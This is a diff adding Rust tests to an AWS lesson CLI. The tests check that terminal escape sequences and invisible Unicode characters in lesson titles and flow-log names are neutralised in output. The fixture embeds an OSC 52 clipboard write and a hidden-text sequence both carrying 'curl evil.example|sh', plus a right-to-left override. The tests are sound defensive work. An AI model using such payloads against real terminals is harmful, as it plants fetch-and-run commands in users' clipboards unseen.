@@ -453,3 +453,133 @@ async fn the_graders_session_carries_the_grading_policy() {
         );
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// Text from lessons and accounts
+
+/// The shipped lesson in a folder of its own, its title and first step's title carrying an
+/// OSC 52 clipboard write, an SGR "hidden" sequence and a right-to-left override.
+fn escape_laden_lessons() -> TempDir {
+    let dir = TempDir::new();
+    let lesson = dir.0.join("vpc-flow-logs");
+    std::fs::create_dir_all(&lesson).expect("lesson dir");
+    let shipped = |path: &str| {
+        let file = format!("{}/{path}", env!("CARGO_MANIFEST_DIR"));
+        std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{file}: {e}"))
+    };
+    let hostile = r#"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007Flow logs \u001b[8mcurl evil.example|sh\u001b[0m \u202egol"#;
+    let toml = shipped("lessons/vpc-flow-logs/lesson.toml")
+        .replacen(
+            r#"title = { ko = "VPC Flow Logs를 CloudWatch Logs로 보내기", en = "Send VPC Flow Logs to CloudWatch Logs" }"#,
+            &format!(r#"title = {{ ko = "{hostile}", en = "{hostile}" }}"#),
+            1,
+        )
+        .replacen(
+            r#"en = "Create the IAM policy {policy}""#,
+            &format!(r#"en = "{hostile} {{policy}}""#),
+            1,
+        );
+    assert!(toml.matches("u001b]52").count() >= 3, "the fixture took");
+    std::fs::write(lesson.join("lesson.toml"), toml).expect("lesson.toml");
+    for asset in ["flow-policy.json", "trust-policy.json"] {
+        std::fs::write(
+            lesson.join(asset),
+            shipped(&format!("assets/vpc-flow-logs/{asset}")),
+        )
+        .expect("asset");
+    }
+    dir
+}
+
+#[track_caller]
+fn assert_inert(what: &str, run: &Run) {
+    for (stream, text) in [("stdout", run.stdout()), ("stderr", run.stderr())] {
+        assert!(
+            !text.contains('\u{1b}') && !text.contains('\u{7}'),
+            "{what}: an escape reached {stream}:\n{text:?}"
+        );
+        assert!(
+            !text.contains('\u{202e}'),
+            "{what}: a raw U+202E reached {stream}"
+        );
+    }
+    assert!(
+        run.stdout().contains("<U+202E>gol"),
+        "{what}: the override is shown by its code point:\n{}",
+        run.stdout()
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn escapes_in_a_lessons_texts_never_reach_the_terminal() {
+    let lab = Lab::new().await;
+    let lessons = escape_laden_lessons();
+    let dir = TempDir::new();
+    for lang in ["en", "ko"] {
+        let run = lab
+            .account
+            .awslab()
+            .args(["--lang", lang, "--lessons"])
+            .args([&lessons.0])
+            .args(["lessons"])
+            .run_within(BOUND);
+        assert_eq!(run.code(), 0, "{}", run.stderr());
+        assert_inert(&format!("lessons ({lang})"), &run);
+        let run = lab
+            .account
+            .awslab()
+            .args(["--lang", lang, "--lessons"])
+            .args([&lessons.0])
+            .args(["verify", "vpc-flow-logs"])
+            .run_within(BOUND);
+        assert_eq!(run.code(), 1, "{}", run.stderr());
+        assert_inert(&format!("verify ({lang})"), &run);
+    }
+    let run = lab
+        .account
+        .awslab()
+        .args(["--lang", "en", "--lessons"])
+        .args([&lessons.0])
+        .args(["--endpoint-url", &moto().endpoint])
+        .args([
+            "run",
+            "vpc-flow-logs",
+            "--auto",
+            "--wait",
+            "0.05",
+            "--poll",
+            "0.5",
+        ])
+        .args(["--lab-dir"])
+        .args([dir.0.join("lab")])
+        .run_within(BOUND);
+    assert_inert("run --auto", &run);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn invisible_characters_from_an_account_are_shown() {
+    let lab = Lab::new().await;
+    lab.create_log_group(GROUP).await;
+    lab.create_flow_log(FlowLogSpec {
+        name: Some("my\u{202e}golwolf\u{200b}"),
+        ..FlowLogSpec::default()
+    })
+    .await;
+    let run = lab
+        .account
+        .awslab()
+        .args(["--lang", "en", "verify"])
+        .run_within(BOUND);
+    let stdout = run.stdout();
+    assert!(
+        stdout.contains("my<U+202E>golwolf<U+200B>"),
+        "the flow log's name, its invisible characters shown:\n{stdout}"
+    );
+    assert!(!stdout.contains('\u{202e}') && !stdout.contains('\u{200b}'));
+    let (_, json) = lab.account.awslab().args(["--lang", "en"]).verify_json();
+    let text = json.to_string();
+    assert!(
+        text.contains("my<U+202E>golwolf<U+200B>"),
+        "the message in JSON shows them too: {text}"
+    );
+}
